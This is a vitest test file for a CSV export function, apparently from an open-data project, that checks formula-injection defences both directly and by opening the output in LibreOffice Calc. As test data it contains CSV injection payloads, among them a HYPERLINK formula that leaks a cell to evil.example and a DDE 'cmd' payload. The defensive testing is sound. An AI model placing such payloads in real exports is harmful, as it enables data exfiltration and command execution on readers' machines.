// Open-data CSV files are opened by journalists in Excel or LibreOffice: no cell may become a formula there.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/lib/csv.ts';
import { formulasIn, openCsvInCalc } from '../support/libreoffice.ts';

const EXFILTRATE = '=HYPERLINK("https://evil.example/?x="&B3;"Xem văn bản gốc")';
const ATTACKS = [EXFILTRATE, '+1+2', '-2+3', '@SUM(1;2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

describe('CSV cells (OWASP CSV injection)', () => {
  it.each(ATTACKS)('neutralises text beginning with a formula character: %j', (s) => {
    const cell = csvCell(s);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
    // Nothing of the text is lost: the apostrophe is the only addition.
    expect(cell.replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(`'${s}`);
  });

  it('leaves numbers, and text that is only a number, as numbers', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(92.5)).toBe('92.5');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('+2.5')).toBe('+2.5');
    expect(csvCell(null)).toBe('');
  });

  it('leaves ordinary text alone and quotes separators as RFC 4180 says', () => {
    expect(csvCell('Hà Nội')).toBe('Hà Nội');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell('Kinh tế - xã hội')).toBe('Kinh tế - xã hội');
  });
});

describe('opened in LibreOffice Calc', () => {
  const dir = mkdtempSync(join(tmpdir(), 'hn122-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const rows = [[2026, 'pl2-01', ...ATTACKS, -5, '-5']];
  const header = ['year', 'task', ...ATTACKS.map((_, i) => `text_${i}`), 'n', 'n_text'];

  it('finds no formula in what toCsv writes, keeps the text visible and -5 a number', { timeout: 60_000 }, () => {
    writeFileSync(join(dir, 'safe.csv'), toCsv(header, rows));
    const sheets = openCsvInCalc([join(dir, 'safe.csv')]);
    expect(formulasIn(sheets)).toEqual([]);
    const row = sheets.get('safe.csv')![1]!;
    expect(row[0]).toMatchObject({ type: 'float', text: '2026' });
    expect(row[2]!.text).toBe(`'${EXFILTRATE}`);
    expect(row.at(-2)).toMatchObject({ type: 'float', text: '-5' });
    expect(row.at(-1)).toMatchObject({ type: 'float', text: '-5' });
  });

  it('would find the formula in a CSV that only quotes (the check can fail)', { timeout: 60_000 }, () => {
    const naive = (v: string | number) => (/[",\r\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
    writeFileSync(join(dir, 'naive.csv'), `${[header, ...rows].map((r) => r.map(naive).join(',')).join('\r\n')}\r\n`);
    const found = formulasIn(openCsvInCalc([join(dir, 'naive.csv')]));
    expect(found.some((f) => f.includes('HYPERLINK'))).toBe(true);
  });
});
